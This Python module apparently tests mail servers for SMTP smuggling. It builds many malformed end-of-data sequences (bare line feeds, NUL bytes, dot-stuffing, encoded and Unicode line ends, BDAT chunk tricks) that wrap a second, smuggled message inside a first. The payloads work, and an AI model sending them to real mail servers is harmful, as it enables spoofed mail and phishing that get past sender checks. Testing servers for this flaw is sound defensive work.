"""What somebody writes who wants one letter to become two: ends of data that only one of two servers takes for an end.

https://www.postfix.org/smtp-smuggling.html names the idea; RFC 5321 (4.1.1.4) and RFC 3030 say what an end is.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

#: About what servers read at once, or take for the longest line.
LENGTHS = (510, 997, 998, 999, 1000, 1022, 1023, 1024, 2046, 2047, 2048, 2049, 4095, 4096, 8191, 8192, 70000)
#: What is no size of a chunk.
SIZES = ("-5", "+5", "0x5", "5x", "5.0", "1e1", "18446744073709551617", "99999999999999999999", "", "LAST", "5 FIRST", "5 LAST")
# With a line feed that no carriage return precedes: a server may refuse these, so each is a letter of its own.
BARE_LINE_FEEDS = [
    "\n.\n",
    "\r\n.\n",
    "\n.\r\n",
    "\n.\r",
    "\n\n.\n\n",
    "\r.\n",
    "\n\r.\r\n",
    "\n..\r\n.\n",
    "\n.\n\r\n",
    "\n\x00.\r\n",
    "\r\n.\x00\n",
    "\r\n.\r\x00\n",
    "\x00\n.\n\x00",
]
# Without one. Whoever refuses these refuses more than the standard wants, so they may come together, one behind the other.
OTHERS = [
    "\r.\r",
    "\r\n.\r",
    "\r.\r\n",
    "\r\n\r.\r\n",
    "\r\r.\r\r",
    "\r\n.\r\r\n",
    "\r\n\x00.\r\n",
    "\r\n.\x00\r\n",
    "\x00\r\n\x00.\x00\r\n\x00",
    # Dot-stuffing: what the next hop must stuff again.
    "\r\n..\r\n",
    "\r\n...\r\n",
    "\r\n..\r",
    "\r\r\n..\r\n",
    # Nearly a dot alone on its line.
    "\r\n. \r\n",
    "\r\n .\r\n",
    "\r\n.\t\r\n",
    "\r\n.\x0b\r\n",
    "\r\n\x0c.\x0c\r\n",
    "\r\n\x7f.\x08\r\n",
    "\r\n.\x1a\r\n",
    "\x1a\r\n",
    "\r\n.\\r\\n\r\n",
    # What other alphabets call the end of a line, or a full stop.
    "\x85.\x85",
    "\r\n\xc2\x85.\xc2\x85\r\n",
    "\r\n\xe2\x80\xa8.\xe2\x80\xa8\r\n",
    "\r\n\xef\xbb\xbf.\r\n",
    "\r\n\xef\xbc\x8e\r\n",
    "\r\n\x8a.\x8a\r\n",
    "\r\n\xff\xf4\xff\xfd.\r\n",
    # Encoded: a filter or a gateway may decode it, and may not hand on what comes out as an end.
    "\r\n=0D=0A.=0D=0A\r\n",
    "\r\n=2E\r\n",
    "\r\n=\r\n..=\r\n\r\n",
    "\r\nDQouDQo=\r\n",
    # BDAT inside of DATA is text.
    "\r\nBDAT 0 LAST\r\n",
    "\r\nBDAT 4 LAST\r\nRSET\r\n",
    # The dot stands first in the piece that a server reads next.
    *(f"\r\n{'x' * length}.\r\n" for length in LENGTHS),
    *(f"\r\n{'x' * length}..\r\n" for length in LENGTHS),
    *(f"\r\n{'x' * length}\r\n..\r\n" for length in LENGTHS),
]


@dataclass(frozen=True)
class Attempt:
    """text: what follows the 354, or RCPT when there is no DATA. answers: how many of them are right. body: parameters of MAIL.

    decides: which answer says whether the first letter was taken; the last one unless told otherwise.
    """

    name: str
    text: str
    answers: int = 1
    data: bool = True
    body: str = ""
    decides: int = 0


def ends(carrier: str, inner: str) -> Iterator[Attempt]:
    """Return letters that end early for some. carrier: up to the middle of a text; inner: the second letter with its commands."""
    for end in BARE_LINE_FEEDS:
        yield Attempt(repr(end), f"{carrier}{end}{inner}\r\n.\r\n")
    yield Attempt("everything else", "RSET\r\n".join([carrier, *(end for end in OTHERS), ""]) + f"{inner}\r\n.\r\n")


def mixes(carrier: str, inner: str) -> Iterator[Attempt]:
    """Return a few ends in letters that were announced as something else."""
    for body in ("BODY=7BIT", "BODY=8BITMIME SMTPUTF8", "SIZE=10 BODY=8BITMIME"):
        yield Attempt(f"{body}, NEL and CR", f"{carrier}\xc2\x85.\xc2\x85\r.\r\x85.\x85{inner}\r\n.\r\n", body=body)
        yield Attempt(f"{body}, LF", f"{carrier}\r\n\xc2\x85.\n{inner}\r\n.\r\n", body=body)


def chunk(text: str, last: bool = False, size: int | str | None = None) -> str:
    """Return one BDAT command with its octets (RFC 3030)."""
    return f"BDAT {len(text) if size is None else size}{' LAST' if last else ''}\r\n{text}"


def chunks(carrier: str, inner: str) -> Iterator[Attempt]:
    """Return letters in chunks. What stands in a chunk is never a command, however it ends and whatever was refused before."""

    def attempt(name: str, text: str, answers: int, body: str = "", decides: int = 0) -> Attempt:
        return Attempt(f"BDAT: {name}", text, answers, data=False, body=body, decides=decides)

    for end in ("\n.\n", "\r\n.\n", "\n.\r\n"):
        yield attempt(f"{end!r} inside", chunk(f"{carrier}{end}{inner}\r\n", last=True), 1)
    # A dot at the end of a chunk, an end between CR and LF, chunks of one octet, and ends of every kind inside of one.
    some = [f"{carrier}\r\n.", "\r\nRSET\r", "\n.\r", "\nRSET", *"\r\n.\r\n", "RSET\r.\rRSET\r\n.\r\n\x00\r\n.\x00\r\n"]
    yield attempt("many chunks", "".join(map(chunk, some)) + chunk(inner, last=True), len(some) + 1)
    yield attempt("an empty last chunk", chunk(f"{carrier}\r\n.\r\n{inner}") + "BDAT 0 LAST\r\n", 2)
    yield attempt("no letter is open any more", chunk(carrier, last=True) + chunk(inner, last=True), 2, decides=1)
    yield attempt("an unknown recipient in between", chunk(carrier) + "RCPT TO:<nobody@invalid>\r\n" + chunk(inner, last=True), 3)
    yield attempt("DATA in between", chunk(carrier) + "DATA\r\n" + chunk(f"\r\n.\r\n{inner}", last=True), 3)
    yield attempt("RSET in between", chunk(carrier) + "RSET\r\n" + chunk(inner, last=True), 3)
    yield attempt("NOOP in between", chunk(carrier) + "NOOP\r\n" + chunk(inner, last=True), 3)
    yield attempt("binary", chunk(f"{carrier}\r\n.\r\n{inner}", last=True), 1, body="BODY=BINARYMIME")


def nonsense(carrier: str, inner: str) -> Iterator[Attempt]:
    """Return letters in chunks of which nobody can say where they end: only hanging up is safe."""
    for size in SIZES:
        yield Attempt(f"BDAT: of the size {size!r}", chunk(carrier) + chunk(f"{inner}\r\n.\r\n", last=True, size=size), 2, data=False)
